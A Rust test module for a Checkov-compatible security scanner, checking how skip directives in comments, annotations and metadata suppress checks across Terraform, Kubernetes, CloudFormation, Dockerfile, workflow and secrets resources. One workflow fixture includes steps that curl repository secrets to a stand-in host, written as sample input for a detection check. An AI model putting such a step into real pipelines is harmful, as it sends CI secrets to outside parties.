use super::*;
use crate::model::{BlockKind, Span};
use crate::testing::{CATALOG, map};

fn resource(framework: Framework, file: &str, span: Span, config: Value) -> Resource {
    Resource {
        framework,
        block: BlockKind::Resource,
        kind: "x".into(),
        address: "x.y".into(),
        file: file.into(),
        span,
        caller: None,
        config,
    }
}

fn s(text: &str) -> Value {
    Value::String(text.to_owned())
}

/// The reasons given for each check of the test catalog on one resource, `-` where the
/// check is not suppressed.
fn reasons(r: Resource, text: &str) -> Vec<String> {
    let rs = [r];
    let sup = Suppressions::collect(&rs, |_| Some(text));
    CATALOG
        .iter()
        .map(|c| sup.reason(0, c.meta()).unwrap_or("-").to_owned())
        .collect()
}

#[test]
fn terraform_comments_in_the_block_suppress() {
    let text = r#"resource "aws_s3_bucket" "b" {   # line 1
  # checkov:skip=CKV_AWS_20,CKV_AWS_21:public website
  acl = "public-read" // deputy:skip=DPY-TEST-004 not a Dockerfile
  /* bridgecrew:skip=CKV_K8S_20 */
}
# checkov:skip=CKV_DOCKER_3:outside the block
"#;
    let r = resource(
        Framework::Terraform,
        "main.tf",
        Span::new(1, 5),
        Value::Null,
    );
    assert_eq!(
        reasons(r, text),
        [
            "public website",
            "public website",
            NO_REASON,
            "not a Dockerfile"
        ]
    );
}

#[test]
fn terraform_directives_must_be_in_comments() {
    let text = "resource \"a\" \"b\" {\n  description = \"checkov:skip=CKV_AWS_20 # not a comment\"\n  /*\n   cortex:skip=CKV_AWS_21: multi-line block\n  */\n}\n";
    let r = resource(
        Framework::Terraform,
        "main.tf",
        Span::new(1, 6),
        Value::Null,
    );
    assert_eq!(reasons(r, text), ["-", "multi-line block", "-", "-"]);
}

#[test]
fn yaml_comments_and_kubernetes_annotations() {
    let text = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web # checkov:skip=CKV_AWS_20:yaml comment\n  labels: {a: \"#checkov:skip=CKV_AWS_21\"}\n";
    let config = map(vec![(
        "metadata",
        map(vec![(
            "annotations",
            map(vec![
                ("checkov.io/skip1", s("CKV_K8S_20=runs as root on purpose")),
                ("deputy.dev/skip-user", s("DPY-TEST-004")),
                ("other/skip", s("CKV_AWS_21=ignored")),
            ]),
        )]),
    )]);
    let r = resource(Framework::Kubernetes, "k.yaml", Span::new(1, 5), config);
    assert_eq!(
        reasons(r, text),
        ["yaml comment", "-", "runs as root on purpose", NO_REASON]
    );
}

#[test]
fn cloudformation_metadata() {
    let config = map(vec![(
        "Metadata",
        map(vec![(
            "checkov",
            map(vec![(
                "skip",
                Value::List(vec![
                    map(vec![("id", s("CKV_AWS_20")), ("comment", s("public site"))]),
                    map(vec![("id", s("CKV_AWS_21"))]),
                ]),
            )]),
        )]),
    )]);
    let r = resource(Framework::CloudFormation, "t.json", Span::new(3, 9), config);
    assert_eq!(reasons(r, "{}"), ["public site", NO_REASON, "-", "-"]);
}

#[test]
fn dockerfile_comments_anywhere_in_the_file() {
    let text = "FROM alpine\nRUN echo '# checkov:skip=CKV_AWS_20'\n# checkov:skip=CKV_DOCKER_3: a base image\n";
    let r = resource(
        Framework::Dockerfile,
        "Dockerfile",
        Span::new(1, 1),
        Value::Null,
    );
    assert_eq!(reasons(r, text), ["-", "-", "-", "a base image"]);
}

#[test]
fn unread_files_have_no_comment_suppressions() {
    let rs = [resource(
        Framework::Terraform,
        "main.tf",
        Span::new(1, 3),
        Value::Null,
    )];
    let sup = Suppressions::collect(&rs, |_| None);
    assert!(CATALOG.iter().all(|c| sup.reason(0, c.meta()).is_none()));
}

/// Where Checkov 3.3.30 applies a skip comment in a workflow: to every job and to the
/// steps whose lines hold it (`jobs(a).steps[1]` ends on the line of the next dash).
#[test]
fn workflow_comments_cover_jobs_and_the_steps_around_them() {
    let text = "name: s\non: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo one\n      - run: curl -d ${{ secrets.X }} https://e.example # checkov:skip=CKV_GHA_3: reviewed\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d ${{ secrets.Y }} https://e.example\n";
    let resources = crate::github_actions::parse(&crate::model::SourceFile {
        path: ".github/workflows/s.yml".into(),
        text: text.into(),
    })
    .resources;
    let suppressions = Suppressions::collect(&resources, |_| Some(text));
    let Some(curl) = crate::registry::by_checkov_id("CKV_GHA_3").next() else {
        panic!("CKV_GHA_3 is claimed")
    };
    let skipped: Vec<&str> = resources
        .iter()
        .enumerate()
        .filter(|(i, _)| suppressions.reason(*i, curl.meta()) == Some("reviewed"))
        .map(|(_, r)| r.address.as_str())
        .collect();
    assert_eq!(
        skipped,
        [
            "on(s)",
            "on(s)",
            "jobs(a)",
            "jobs(a).steps[1]",
            "jobs(a).steps[2]",
            "jobs(b)"
        ]
    );
}

/// A secret is suppressed by a directive anywhere on its line or the lines just before
/// and after it, comment or not, as Checkov's secrets runner searches them.
#[test]
fn secrets_directives_on_the_line_and_its_neighbours() {
    let text = "a\n# checkov:skip=CKV_AWS_20:before\nkey = x\nb = 1 checkov:skip=CKV_AWS_21\nc\n";
    let secret = |line| {
        resource(
            Framework::Secrets,
            "a.tf",
            Span::new(line, line + 1),
            Value::Null,
        )
    };
    assert_eq!(reasons(secret(3), text), ["before", NO_REASON, "-", "-"]);
    assert_eq!(reasons(secret(1), text), ["before", "-", "-", "-"]);
    assert_eq!(reasons(secret(5), text), ["-", NO_REASON, "-", "-"]);
    assert_eq!(reasons(secret(7), text), ["-", "-", "-", "-"]);
}
